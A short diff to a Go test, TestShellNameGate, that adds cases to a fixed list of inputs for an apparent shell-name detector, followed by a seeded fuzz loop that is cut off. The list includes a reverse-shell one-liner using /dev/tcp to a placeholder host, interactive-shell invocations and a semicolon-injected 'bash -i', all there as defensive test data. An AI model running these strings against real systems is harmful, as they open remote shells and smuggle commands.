@@ -27,7 +27,8 @@ func randomGateString(rng *rand.Rand) string {
 func TestShellNameGate(t *testing.T) {
 	rng := rand.New(rand.NewSource(7))
 	fixed := []string{"", "sh", " sh ", "/bin/sh", "bash -i", "sh -li", "cmd", "pwsh", "powershell.exe ", "x; bash -i", "hash", "fresh -i",
-		"/usr/bin/zsh", "sh\v", "sh\v-i", "exec 3<>/dev/tcp/h/1; sh <&3", "a >& %d", "ssh -i key", "shift"}
+		"/usr/bin/zsh", "sh\v", "sh\v-i", "exec 3<>/dev/tcp/h/1; sh <&3", "a >& %d", "ssh -i key", "shift",
+		"Cmd-Z undo cmd-Y redo and a keymap long enough", " cmd.exe\t", "/bin/ls", "run /bin/bashful", ";/usr/bin/ksh93"}
 	matched := 0
 	for i := 0; i < 60000; i++ {
 		s := randomGateString(rng)
